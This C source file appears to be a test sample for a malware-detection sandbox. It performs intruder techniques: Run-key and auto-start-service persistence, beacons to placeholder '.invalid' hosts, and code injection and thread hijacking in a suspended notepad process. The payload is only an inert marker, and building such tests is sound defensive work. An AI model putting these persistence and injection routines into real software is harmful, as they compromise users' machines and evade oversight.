/* Does what intruders do, with a C runtime around it: exit code 0, or the line of the check that failed. */
#include <winsock2.h>
#include <ws2tcpip.h>
#include <windows.h>
#include <wininet.h>

#include <process.h>
#include <stdio.h>
#include <string.h>

#include "check.h"

#define NAME "drakcelery-crt"

static void persist(void)
{
    char path[MAX_PATH], folder[MAX_PATH];
    HKEY key;
    SC_HANDLE manager, service;
    CHECK(GetModuleFileNameA(NULL, path, sizeof path) > 0);
    CHECK(RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE,
                        &key) == 0);
    CHECK(RegSetValueExA(key, NAME, 0, REG_SZ, (const BYTE *)path, (DWORD)strlen(path) + 1) == 0);
    RegCloseKey(key);
    snprintf(folder, sizeof folder, "%s\\%s", getenv("PUBLIC") ? getenv("PUBLIC") : "C:\\Users\\Public", NAME ".exe");
    CHECK(CopyFileA(path, folder, FALSE));
    manager = OpenSCManagerA(NULL, NULL, SC_MANAGER_CREATE_SERVICE);
    CHECK(manager);
    service = CreateServiceA(manager, NAME, "A test", SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS,
                             SERVICE_AUTO_START, SERVICE_ERROR_NORMAL, folder, NULL, NULL, NULL, NULL, NULL);
    CHECK(service);
    StartServiceA(service, 0, NULL);
}

static void talk(void)
{
    WSADATA data;
    struct addrinfo hints = {0}, *found;
    SOCKET connection;
    char request[128];
    CHECK(WSAStartup(MAKEWORD(2, 2), &data) == 0);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    CHECK(getaddrinfo("tcp.drakcelery.invalid", "8080", &hints, &found) == 0);
    connection = socket(found->ai_family, found->ai_socktype, found->ai_protocol);
    CHECK(connection != INVALID_SOCKET);
    CHECK(connect(connection, found->ai_addr, (int)found->ai_addrlen) == 0);
    CHECK(sprintf(request, "HELLO %d %s\r\n", 7, NAME) == 24);
    CHECK(send(connection, request, (int)strlen(request), 0) == 24);
    closesocket(connection);
}

static void fetch(void)
{
    HINTERNET session, connection, request;
    session = InternetOpenA("agent", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    CHECK(session);
    connection = InternetConnectA(session, "inet.drakcelery.invalid", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    CHECK(connection);
    request = HttpOpenRequestA(connection, "GET", "/inet?n=1", NULL, NULL, NULL, 0, 0);
    CHECK(request);
    CHECK(HttpSendRequestA(request, NULL, 0, NULL, 0));
}

static const unsigned char payload[] = "\x90\x90\xc3 drakcelery-injected-mark";

static void inject(void)
{
    STARTUPINFOA start = {sizeof start};
    PROCESS_INFORMATION started;
    SIZE_T written = 0;
    CONTEXT context;
    char command[] = "notepad.exe";
    void *place;
    CHECK(CreateProcessA("C:\\Windows\\System32\\notepad.exe", command, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL,
                         NULL, &start, &started));
    place = VirtualAllocEx(started.hProcess, NULL, sizeof payload, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    CHECK(place);
    CHECK(WriteProcessMemory(started.hProcess, place, payload, sizeof payload, &written));
    CHECK(CreateRemoteThread(started.hProcess, NULL, 0, (LPTHREAD_START_ROUTINE)place, NULL, 0, NULL));
    context.ContextFlags = CONTEXT_FULL;
    CHECK(GetThreadContext(started.hThread, &context));
#ifdef _WIN64
    context.Rip = (DWORD64)place;
#else
    context.Eip = (DWORD)place;
#endif
    CHECK(SetThreadContext(started.hThread, &context));
    CHECK(ResumeThread(started.hThread) != (DWORD)-1);
}

static unsigned __stdcall work(void *argument)
{
    FILE *file = fopen("C:\\Users\\Public\\" NAME "-thread.txt", "wb");
    fwrite(argument, 1, 4, file);
    fclose(file);
    return 0;
}

int main(void)
{
    HANDLE thread;
    persist();
    talk();
    fetch();
    inject();
    CHECK(system("echo " NAME) == 0);
    CHECK(_spawnl(_P_NOWAIT, "C:\\Windows\\System32\\calc.exe", "calc.exe", "/c", NULL) != -1);
    thread = (HANDLE)_beginthreadex(NULL, 0, work, "done", 0, NULL);
    CHECK(thread);
    WaitForSingleObject(thread, INFINITE);
    return 0;
}
